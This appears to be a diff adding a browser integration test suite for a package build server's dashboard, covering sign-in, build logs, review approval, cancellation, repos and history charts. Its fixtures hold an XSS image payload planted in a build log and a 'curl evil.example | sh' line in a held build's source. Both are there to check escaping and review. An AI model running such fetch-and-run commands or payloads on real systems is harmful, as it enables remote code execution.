@@ -1,0 +1,319 @@
+"""The dashboard in a real browser (headless Chromium, selenium) against a real server with
+builds made to fail, be held for review and run through the agent's HTTP API: sign in, see
+the failed build first, open it, watch log lines arrive while it runs, approve a held build,
+cancel a running one, open a repo and see a package, and the history charts. Screenshots of
+every page at 390x844 and 1920x1080 go to the artefacts folder; any console error fails."""
+
+from __future__ import annotations
+
+import json
+import sqlite3
+import time
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from browser import Browser, browser_for
+from conftest import API_KEY, ServerProcess
+from pkgfactory import make_synthetic_package
+from test_api_v2_jobs import pkgbuild_files, tar_of
+from test_routes import SCOPE_OF
+from vieter_lite.client import Client
+
+pytestmark = pytest.mark.integration
+
+HOSTILE = '<img src=x onerror="document.title=\'owned\'">'
+ANSI_LINE = "\x1b[1;31merror:\x1b[0m build() failed \x1b[32mgreen\x1b[0m"
+# routes the pages use when the server has them (see docs: the dashboard); a server
+# without them answers 404 once at start, which the page takes as "not there"
+OPTIONAL = ("/api/v2/info", "/api/v2/whoami", "/api/v2/stats/builds")
+ABSENT = [p for p in OPTIONAL if ("GET", p) not in SCOPE_OF]
+
+
+def tolerated(message: str) -> bool:
+    return any(p in message and " 404 " in message for p in ABSENT)
+
+
+# -- the server and its builds, through the HTTP API ---------------------------------------
+
+def call(server: ServerProcess, method: str, path: str, body: Any = None,
+         token: str | None = None, raw: bytes | None = None) -> Any:
+    headers = {"Authorization": f"Bearer {token or API_KEY}"}
+    data = raw
+    if body is not None:
+        data = json.dumps(body).encode()
+        headers["Content-Type"] = "application/json"
+    req = urllib.request.Request(server.url + path, data=data, method=method, headers=headers)
+    try:
+        with urllib.request.urlopen(req, timeout=20) as resp:
+            text = resp.read()
+    except urllib.error.HTTPError as exc:
+        raise AssertionError(f"{method} {path}: {exc.code} {exc.read()[:500]!r}") from None
+    return json.loads(text) if text else None
+
+
+@dataclass
+class Site:
+    server: ServerProcess
+    builds: dict[str, int] = field(default_factory=dict)
+    tokens: dict[str, str] = field(default_factory=dict)
+    targets: dict[str, int] = field(default_factory=dict)
+
+    def target(self, name: str, review: str = "never") -> int:
+        body = {"kind": "git", "url": f"https://example.invalid/{name}.git", "repo": name,
+                "arch": ["x86_64"], "review": review, "schedule": "0 3 1 1"}
+        self.targets[name] = call(self.server, "POST", "/api/v2/targets", body)["id"]
+        return self.targets[name]
+
+    def claim(self, target: str) -> tuple[int, str]:
+        build = call(self.server, "POST", "/api/v2/builds", {"target_id": self.targets[target]})
+        jobs = call(self.server, "GET", "/api/v1/jobs/poll?arch=x86_64&max=1"
+                    f"&build={build['id']}&jobs=v2")["data"]
+        assert [j["build_id"] for j in jobs] == [build["id"]]
+        return build["id"], jobs[0]["token"]
+
+    def task(self, build: int, token: str, name: str, status: str) -> None:
+        call(self.server, "PATCH", f"/api/v1/builds/{build}/tasks/{name}?status={status}",
+             token=token)
+
+    def append(self, build: int, token: str, text: str) -> None:
+        call(self.server, "PATCH", f"/api/v2/builds/{build}/log", {"append": text}, token=token)
+
+    def finish(self, build: int, token: str, exit_code: int, start: int, end: int) -> None:
+        call(self.server, "POST", f"/api/v1/builds/{build}/finish?exitCode={exit_code}"
+             f"&startTime={start}&endTime={end}", token=token)
+        # the log delivered in full (the build's token ended with the build)
+        call(self.server, "PATCH", f"/api/v2/builds/{build}/log", {"status": "DONE"})
+
+    def backdate(self, build: int, created: int, start: int, end: int) -> None:
+        """The server takes its own clock for a build's times: a history of several days
+        is written into its database (the only write that bypasses the API)."""
+        with sqlite3.connect(self.server.data_dir / "vieter.sqlite", timeout=10) as db:
+            db.execute("UPDATE builds SET created_at = ?, started_at = ?, ended_at = ? "
+                       "WHERE id = ?", (created, start, end, build))
+        db.close()
+
+    def run(self, target: str, exit_code: int, log: str, start: int, end: int) -> int:
+        build, token = self.claim(target)
+        for name in ("setup", "source", "build"):
+            self.task(build, token, name, "success" if exit_code == 0 or name != "build"
+                      else "failed")
+        self.append(build, token, log)
+        self.finish(build, token, exit_code, start, end)
+        self.backdate(build, start - 5 * (build % 7 + 1), start, end)
+        return build
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    tmp = tmp_path_factory.mktemp("ui")
+    server = ServerProcess(tmp / "data").start()
+    s = Site(server)
+    now = int(time.time())
+    day = 86400
+    # 'flaky' succeeded, then failed twice: both failures need attention
+    s.target("flaky")
+    s.run("flaky", 0, "all good\n", now - 3 * day, now - 3 * day + 40)
+    s.builds["failed_old"] = s.run("flaky", 1, "first failure\n", now - 2 * day,
+                                   now - 2 * day + 70)
+    log = "".join(f"step {i}: compiling\n" for i in range(1, 40))
+    log += f"{HOSTILE}\n{ANSI_LINE}\n==> ERROR: A failure occurred in build().\n"
+    s.builds["failed"] = s.run("flaky", 1, log, now - day, now - day + 95)
+    # 'fixed' failed, then succeeded: nothing to attend to
+    s.target("fixed")
+    s.builds["fixed_fail"] = s.run("fixed", 1, "oops\n", now - 2 * day, now - 2 * day + 20)
+    s.run("fixed", 0, "ok\n", now - day, now - day + 30)
+    # 'reviewed' has a changed source: held with its diff
+    s.target("reviewed", review="changes")
+    held, token = s.claim("reviewed")
+    answer = call(s.server, "PUT", f"/api/v2/builds/{held}/source",
+                  raw=tar_of(pkgbuild_files("1.0", "curl evil.example | sh")), token=token)
+    assert answer["action"] == "hold"
+    s.builds["held"] = held
+    # 'live' runs now
+    s.target("live")
+    running, token = s.claim("live")
+    s.task(running, token, "setup", "success")
+    s.task(running, token, "source", "success")
+    s.task(running, token, "build", "running")
+    s.append(running, token, "==> Making package: live 1.0-1\n")
+    s.builds["running"], s.tokens["running"] = running, token
+    # a package in a repo
+    pkg = make_synthetic_package(tmp / "hello-2.1-1-x86_64.pkg.tar.zst",
+                                 {"pkgname": "hello", "pkgver": "2.1-1", "arch": "x86_64",
+                                  "size": "4096", "pkgdesc": "hello"})
+    Client(server.url, API_KEY).publish("core", pkg)
+    yield s
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    yield from browser_for(tolerated)
+
+
+def step(browser: Browser, name: str) -> list[Path]:
+    """Screenshots of the page at both sizes, and no console error so far."""
+    shots = browser.screenshots(name)
+    browser.assert_no_console_errors()
+    assert all(p.stat().st_size > 1000 for p in shots)
+    return shots
+
+
+# -- the tests, in the order a visitor goes ------------------------------------------------
+
+def test_an_anonymous_visitor_is_asked_for_a_token_and_a_wrong_one_is_refused(site, browser):
+    browser.go(site.server.url + "/")
+    assert browser.driver.current_url == site.server.url + "/ui/"
+    assert browser.css("#signin").is_displayed()
+    step(browser, "signin")
+    browser.css("#token").send_keys("not-a-token")
+    browser.css("#signin-button").click()
+    message = browser.wait(lambda d: d.find_element("css selector", "#signin-status .error"),
+                           "a refusal").text
+    assert "not accepted" in message
+    # the refusal was a 401, a console error by nature: read and checked, not ignored
+    entries = browser.errors()
+    assert entries and all(" 401 " in e["message"] for e in entries), entries
+
+
+def test_signing_in_shows_the_failed_builds_first(site, browser):
+    browser.css("#token").clear()
+    browser.css("#token").send_keys(API_KEY)
+    browser.css("#signin-button").click()
+    browser.css("#failed")
+    sections = [h.text for h in browser.all("main h2")]
+    assert sections[0].startswith("Failed"), sections
+    assert [s.split(" (")[0] for s in sections] == ["Failed", "Held for review", "Running",
+                                                    "Queue", "Targets"]
+    failed = [int(li.get_attribute("data-build")) for li in browser.all("#failed li")]
+    # both failures since flaky's last success, newest first; fixed's old failure is not
+    assert failed == [site.builds["failed"], site.builds["failed_old"]]
+    held = browser.css(f"#held li[data-build='{site.builds['held']}']")
+    assert "+build() { curl evil.example | sh; }" in held.text
+    running = browser.css(f"#running li[data-build='{site.builds['running']}']")
+    assert "build: running" in running.text and "setup: success" in running.text
+    rows = {r.get_attribute("data-target"): r.text for r in browser.all("table.targets tr[data-target]")}
+    assert set(rows) == {str(t) for t in site.targets.values()}
+    assert "failed" in rows[str(site.targets["flaky"])]
+    badge = browser.css(f"tr[data-target='{site.targets['flaky']}'] a.badge-link")
+    assert badge.get_attribute("href").endswith(f"/badge/{site.targets['flaky']}.svg")
+    # the token is in sessionStorage, and in no cookie and no URL
+    assert browser.driver.execute_script("return sessionStorage.getItem('vieter-lite-token')") \
+        == API_KEY
+    assert browser.driver.get_cookies() == [] and API_KEY not in browser.driver.current_url
+    step(browser, "overview")
+
+
+def test_a_failed_builds_page_shows_its_log_as_text_with_colours_and_line_anchors(site, browser):
+    browser.css(f"#failed li[data-build='{site.builds['failed']}'] a").click()
+    browser.wait(lambda d: "Build #" in d.find_element("css selector", "h1").text, "the build")
+    assert "failed" in browser.text_of("#build-head h1")
+    lines = browser.wait(lambda d: d.find_elements("css selector", "#log .line"), "log lines")
+    assert len(lines) == 42
+    hostile = browser.css("#L40 .text")
+    assert hostile.text == HOSTILE  # shown as text...
+    assert browser.all("#log img") == [] and browser.driver.title != "owned"  # ...never run
+    colour = browser.css("#L41 .text .ansi-fg-1.ansi-bold")
+    assert colour.text == "error:"
+    assert browser.css("#L41 .text .ansi-fg-2").text == "green"
+    assert "\x1b" not in browser.css("#L41").text and "[1;31m" not in browser.css("#L41").text
+    tasks = {r.get_attribute("data-task"): r.text for r in browser.all("table.tasks tr[data-task]")}
+    assert "failed" in tasks["build"] and "success" in tasks["setup"]
+    assert "1m 35s" in browser.text_of(".facts")  # the build's duration
+    # a line's anchor is a link that lands on it
+    anchor = browser.css("#L12 a.ln")
+    assert anchor.get_attribute("href").endswith(f"#/builds/{site.builds['failed']}/L12")
+    anchor.click()
+    browser.wait(lambda d: "target" in d.find_element("id", "L12").get_attribute("class"),
+                 "line 12 highlighted")
+    assert browser.all("#cancel-build") == [] and browser.all("#start-build") == []
+    step(browser, "build-failed")
+
+
+def test_a_running_builds_log_follows_new_lines_and_cancel_ends_it(site, browser):
+    build, token = site.builds["running"], site.tokens["running"]
+    browser.go(f"{site.server.url}/ui/#/builds/{build}")
+    browser.wait(lambda d: d.find_element("id", "L1").text.endswith("Making package: live 1.0-1"),
+                 "the first line")
+    browser.css("#live")
+    for i in range(3):
+        site.append(build, token, f"\x1b[34mcompiling unit {i}\x1b[0m\n")
+    browser.wait(lambda d: d.find_element("id", "L4").text.endswith("compiling unit 2"),
+                 "appended lines")
+    assert browser.css("#L4 .ansi-fg-4").text == "compiling unit 2"
+    site.append(build, token, "half a line")  # shown before its newline arrives...
+    browser.wait(lambda d: d.find_element("id", "L5").text.endswith("half a line"), "line 5")
+    site.append(build, token, ", and its end\n")  # ...and completed in place
+    browser.wait(lambda d: d.find_element("id", "L5").text.endswith("half a line, and its end"),
+                 "line 5 completed")
+    assert len(browser.all("#log .line")) == 5
+    step(browser, "build-running")
+    browser.css("#cancel-build").click()
+    browser.wait(lambda d: "cancelled" in d.find_element("css selector", "#build-head h1").text,
+                 "the build cancelled")
+    assert call(site.server, "GET", f"/api/v2/builds/{build}")["status"] == "cancelled"
+    browser.wait(lambda d: not d.find_elements("id", "live"), "the log no longer followed")
+    browser.assert_no_console_errors()
+
+
+def test_approving_a_held_build_queues_it(site, browser):
+    held = site.builds["held"]
+    browser.go(site.server.url + "/ui/#/")
+    button = browser.css(f"#held button.approve[data-build='{held}']")
+    button.click()
+    browser.wait(lambda d: not d.find_elements("css selector", f"#held li[data-build='{held}']"),
+                 "the held build gone from the held list")
+    browser.css(f"table.queue tr[data-build='{held}']")
+    assert call(site.server, "GET", f"/api/v2/builds/{held}")["status"] == "queued"
+    browser.assert_no_console_errors()
+
+
+def test_a_repo_shows_its_stanza_and_set_up_command_and_its_packages(site, browser):
+    browser.go(site.server.url + "/ui/#/repos")
+    card = browser.css("section.repo[data-repo='core']")
+    stanzas = [p.text for p in card.find_elements("css selector", "pre.copy")]
+    assert stanzas == ["[core]\nServer = " + site.server.url + "/$repo/$arch",
+                       f"curl -fsS '{site.server.url}/setup?repo=core' | sudo sh"]
+    step(browser, "repos")
+    card.find_element("link text", "x86_64").click()
+    row = browser.css("table.packages tr[data-package='hello']")
+    cells = [c.text for c in row.find_elements("css selector", "td")]
+    assert cells[:3] == ["hello", "2.1-1", cells[2]] and cells[2].endswith("B")
+    assert cells[4:] == ["api_key", "no"]
+    link = row.find_element("css selector", "a").get_attribute("href")
+    assert link.startswith(site.server.url + "/core/x86_64/hello-2.1-1-x86_64.pkg.tar")
+    step(browser, "packages")
+
+
+def test_history_draws_success_rate_and_durations_as_svg(site, browser):
+    browser.go(site.server.url + "/ui/#/history")
+    summary = browser.text_of("#history-summary")
+    # flaky 1 ok + 2 failed, fixed 1 failed + 1 ok, live cancelled (and counted as such)
+    assert "6 finished builds, 2 succeeded, 3 failed" in summary, summary
+    bars = browser.all("svg.chart rect.bar")
+    assert len(bars) >= 3  # three days with finished builds
+    assert browser.all("svg.chart circle.dot")
+    step(browser, "history")
+    browser.go(f"{site.server.url}/ui/#/history/{site.targets['flaky']}")
+    browser.wait(lambda d: "3 finished builds, 1 succeeded, 2 failed"
+                 in d.find_element("id", "history-summary").text, "flaky's history")
+    browser.assert_no_console_errors()
+
+
+def test_agents_page_and_an_api_error_shows_its_detail(site, browser):
+    browser.go(site.server.url + "/ui/#/agents")
+    browser.wait(lambda d: d.find_element("css selector", "main h1").text == "Agents", "agents")
+    step(browser, "agents")
+    browser.go(site.server.url + "/ui/#/builds/999999")
+    detail = call(site.server, "GET", "/api/v2/builds?per_page=1")  # (a valid call)
+    assert detail["resources"]
+    error = browser.css("main .error")
+    assert error.text.startswith("Error: ") and "not found" in error.text.lower(), error.text
+    entries = browser.errors()  # the 404 of that build: the only console error
+    assert entries and all("/api/v2/builds/999999" in e["message"] for e in entries), entries
